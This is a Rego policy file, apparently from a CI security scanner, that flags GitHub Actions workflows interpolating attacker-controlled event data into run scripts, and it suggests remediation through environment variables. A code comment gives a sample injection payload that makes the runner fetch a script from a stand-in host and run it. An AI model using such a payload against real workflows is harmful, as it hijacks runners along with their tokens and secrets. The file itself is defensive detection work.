# METADATA
# title: Attacker-controlled expression interpolated into a run script
# description: >-
#   A `${{ ... }}` expression that reads attacker-controllable event data (issue/PR/discussion
#   titles and bodies, comment and review bodies, PR head branch and label, commit messages and
#   author names, `github.head_ref`, workflow_run head branch/commit message, wiki page names) is
#   placed directly inside a step's `run:` script or the `script:` of actions/github-script.
#   GitHub substitutes the value into the script text before it runs, so anyone who can open an
#   issue, comment or pull request can inject shell or JavaScript commands that run with the job's
#   GITHUB_TOKEN, secrets and runner access.
# related_resources:
#   - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   - https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   id: TG-GHA-001
#   severity: critical
#   remediation: >-
#     Never interpolate untrusted context into script text. Pass the value through an environment
#     variable and reference it as data: `env: TITLE: ${{ github.event.issue.title }}` and `run:
#     echo "$TITLE"` (quoted), or in github-script read `context.payload.issue.title` /
#     `process.env.TITLE`. Also restrict the workflow's `permissions:` to what it needs.
#   kinds: [github-actions]
#   aliases: [CKV_GHA_2]
package tollgate.pipelines.github.expression_injection

# Script injection: `${{ ... }}` is expanded into the text of a `run:` script (or the
# JavaScript of actions/github-script) BEFORE the shell or node sees it. When the expression
# is a value an outsider writes -- an issue or PR title, a comment, a branch name, a commit
# message -- its content becomes code: `a"; curl evil.sh | sh; #` in an issue title runs on
# the runner with the workflow's GITHUB_TOKEN and secrets.

import data.lib.guard

# Event fields an outsider controls (GitHub contexts are case-insensitive).
untrusted_pattern := `(?i)(^|[^A-Za-z0-9_.])(github\.event\.(issue\.(title|body)|pull_request\.(title|body|head\.ref|head\.label)|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|head_commit\.(message|author\.(name|email))|commits(\[[^\]]*\]|\.\*)\.(message|author\.(name|email))|workflow_run\.(head_branch|head_commit\.(message|author\.(name|email)))|pages(\[[^\]]*\]|\.\*)\.page_name)|github\.head_ref)([^A-Za-z0-9_]|$)`

doc := d if {
	d := input.document
	is_object(d)
} else := {}

jobs := j if {
	j := guard.get(doc, "jobs", {})
	is_object(j)
} else := {}

# [path, step] for every step of every job, and of a composite action (action.yml).
steps contains [["jobs", jid, "steps", i], step] if {
	some jid, job in jobs
	list := guard.get(job, "steps", [])
	is_array(list)
	some i, step in list
	is_object(step)
}

steps contains [["runs", "steps", i], step] if {
	list := guard.get(doc, ["runs", "steps"], [])
	is_array(list)
	some i, step in list
	is_object(step)
}

# The script nodes of a step: `run`, and `with.script` of actions/github-script.
scripts contains [array.concat(path, ["run"]), "run", step.run] if {
	some [path, step] in steps
	is_string(step.run)
}

scripts contains [array.concat(path, ["with", "script"]), "github-script", script] if {
	some [path, step] in steps
	is_string(step.uses)
	startswith(lower(step.uses), "actions/github-script@")
	script := guard.get(step, ["with", "script"], null)
	is_string(script)
}

# A comparison or predicate yields only true/false, which cannot inject anything.
boolean_only(expr) if {
	regex.match(`(==|!=|<=|>=|(?i)\b(contains|startsWith|endsWith)\()`, expr)
	not contains(expr, "&&")
	not contains(expr, "||")
}

deny contains v if {
	some [path, where, script] in scripts
	some expr in regex.find_n(`\$\{\{[^}]*\}\}`, script, -1)
	regex.match(untrusted_pattern, expr)
	not boolean_only(expr)
	v := {
		"msg": sprintf("%s is interpolated into a %s script: its attacker-controlled content is executed as code; pass it through an env variable instead", [expr, where]),
		"path": path,
		"text": expr,
	}
}
